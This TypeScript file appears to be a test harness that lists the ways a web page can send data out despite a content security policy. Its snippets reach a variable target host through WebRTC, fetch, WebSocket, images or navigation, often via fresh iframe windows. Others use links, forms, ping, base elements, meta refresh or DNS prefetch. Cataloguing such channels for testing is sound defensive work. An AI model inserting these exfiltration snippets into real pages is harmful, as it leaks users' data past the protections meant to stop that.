// The ways out that a content security policy hardly knows: going elsewhere, opening a window, borrowing a fresh frame's window.
import { CALL, type Channels } from './channels.ts';

const HTML = 'http://www.w3.org/1999/xhtml';
const SVG = 'http://www.w3.org/2000/svg';
const XSL = 'http://www.w3.org/1999/XSL/Transform';

const PUT = 'const put = (frame, parent = document.body) => parent.appendChild(frame);';
const framed = (make: string, deed = CALL) => `${PUT}\n${make}\n${deed}`;
const BLANK = "const it = put(document.createElement('iframe')).contentWindow;";

/** A frame has a window of its own, and with it everything that was taken from the page's. */
export const FRAMES: Channels = {
  'WebRTC of a fresh frame': framed(BLANK),
  'WebRTC of a frame with text': framed(
    `const frame = put(Object.assign(document.createElement('iframe'), { srcdoc: '<p>x</p>' }));
     await new Promise((resolve) => frame.addEventListener('load', resolve));
     const it = frame.contentWindow;`,
  ),
  'WebRTC of a frame found by its number': framed("put(document.createElement('iframe')); const it = window[window.length - 1];"),
  'WebRTC of a frame by its full name': framed(`const it = put(document.createElementNS('${HTML}', 'x:iframe')).contentWindow;`),
  'WebRTC of a frame of the old kind': framed("const it = put(document.createElement('frame')).contentWindow;"),
  'WebRTC of a frame in the shade': framed(
    `const shade = put(document.createElement('div')).attachShadow({ mode: 'closed' });
     const it = put(document.createElement('iframe'), shade).contentWindow;`,
  ),
  'WebRTC of a frame from another document': framed(
    "const it = put(document.implementation.createHTMLDocument('').createElement('iframe')).contentWindow;",
  ),
  'WebRTC of a frame of a kind of its own': framed(
    `customElements.define('x-frame', class extends HTMLIFrameElement {}, { extends: 'iframe' });
     const it = put(new (customElements.get('x-frame'))()).contentWindow;`,
  ),
  'WebRTC of a frame made by a style sheet': framed(
    `const sheet = document.implementation.createDocument('${XSL}', 'xsl:stylesheet');
     sheet.documentElement.setAttribute('version', '1.0');
     const [rule, made] = ['xsl:template', 'xsl:element'].map((one) => sheet.createElementNS('${XSL}', one));
     rule.setAttribute('match', '/');
     made.setAttribute('name', 'iframe');
     made.setAttribute('namespace', '${HTML}');
     sheet.documentElement.appendChild(rule).append(made);
     const maker = new XSLTProcessor();
     maker.importStylesheet(sheet);
     put(maker.transformToFragment(document.implementation.createDocument('', 'x'), document));
     const it = window[window.length - 1];`,
  ),
  'WebRTC of a frame in markup': framed(
    "document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); const it = window[window.length - 1];",
  ),
  'WebRTC of an object': framed(
    "const it = put(Object.assign(document.createElement('object'), { type: 'text/html', data: 'about:blank' })).contentWindow;",
  ),
  'fetch of a fresh frame': framed(BLANK, "await it.fetch(web, { mode: 'no-cors' })"),
  'WebSocket of a fresh frame': framed(BLANK, 'new it.WebSocket(socket)'),
  'image in a fresh frame': framed(BLANK, "it.document.body.append(Object.assign(it.document.createElement('img'), { src: web }))"),
  'window opened by a fresh frame': framed(BLANK, 'it.open(web)'),
  'fresh frame that goes elsewhere': framed(BLANK, 'it.location = web'),
};

const link = (then: string, target = '', make = "document.createElement('a')") => `
  const it = ${make};
  it.setAttribute('href', web);
  it.setAttribute('target', '${target}');
  it.append('x');
  ${then}`;
const form = (how = '', send = 'it.submit()') => `
  const it = document.createElement('form');
  it.setAttribute('action', web);
  ${how}
  document.body.append(it);
  ${send}`;
const PRESS = 'document.body.append(it); it.click()';
const EVENT = "it.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, composed: true }))";
const DOWNLOAD = "it.setAttribute('download', 'x');";

/** Those that would take the page away, or open another. */
export const LEAVING: Channels = {
  'location =': 'location = web',
  'location.assign': 'location.assign(web)',
  'location.replace': 'location.replace(web)',
  'navigation.navigate': 'navigation.navigate(web)',
  'meta refresh': "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0; url=${web}` }))",
  'window.open': 'window.open(web)',
  'window.open without a tie': "window.open(web, '_blank', 'noopener')",
  'window.open in its own place': "window.open(web, '_self')",
  'document.open': "document.open(web, '_blank', 'noopener')",
  'link pressed': link(PRESS),
  'link pressed that opens a window': link(PRESS, '_blank'),
  'link pressed outside the page': link('it.click()'),
  'link pressed outside the page that opens a window': link('it.click()', '_blank'),
  'link that is sent a click': link(`document.body.append(it); ${EVENT}`, '_blank'),
  'link outside the page that is sent a click': link(EVENT, '_blank'),
  'link in the shade': link(
    "document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' }).append(it); it.click()",
    '_blank',
  ),
  'link pressed on what stands in it': link(
    "const inner = document.createElement('b'); it.append(inner); document.body.append(it); inner.click()",
    '_blank',
  ),
  'link outside the page pressed on what stands in it': link(
    "const inner = document.createElement('b'); it.append(inner); inner.click()",
    '_blank',
  ),
  'link in a drawing': link(
    `document.body.appendChild(document.createElementNS('${SVG}', 'svg')).append(it); ${EVENT}`,
    '_blank',
    `document.createElementNS('${SVG}', 'a')`,
  ),
  'link that hides its click': link(`it.addEventListener('click', (event) => event.stopImmediatePropagation(), true); ${PRESS}`, '_blank'),
  'link that downloads': link(`${DOWNLOAD} ${PRESS}`),
  'link outside the page that downloads': link(`${DOWNLOAD} it.click()`),
  'area of a map': link(PRESS, '_blank', "document.createElement('area')"),
  'ping of a link': `
    document.body.append(Object.assign(document.createElement('a'), { id: 'ping', href: '#/en/about', ping: web }));
    document.getElementById('ping').click()`,
  'base of all addresses': `
    document.head.prepend(Object.assign(document.createElement('base'), { href: web }));
    location.assign('next')`,
  'form sent': form(),
  'form sent as post': form("it.method = 'post';"),
  'form sent to a window': form("it.target = '_blank';"),
  'form sent as if pressed': form('', 'it.requestSubmit()'),
  'form sent by a button with its own address': form(
    "it.removeAttribute('action');",
    "const button = it.appendChild(document.createElement('button')); button.formAction = web; button.click()",
  ),
};

const named = (rel: string) => `
  const it = document.createElement('link');
  it.setAttribute('rel', '${rel}');
  it.setAttribute('href', 'http://' + name + '/');
  document.head.append(it)`;

/** Those that ask for a name only, which no sink sees: the browser's own log tells. */
export const NAMES: Channels = { 'dns-prefetch': named('dns-prefetch'), 'name of a preconnect': named('preconnect') };
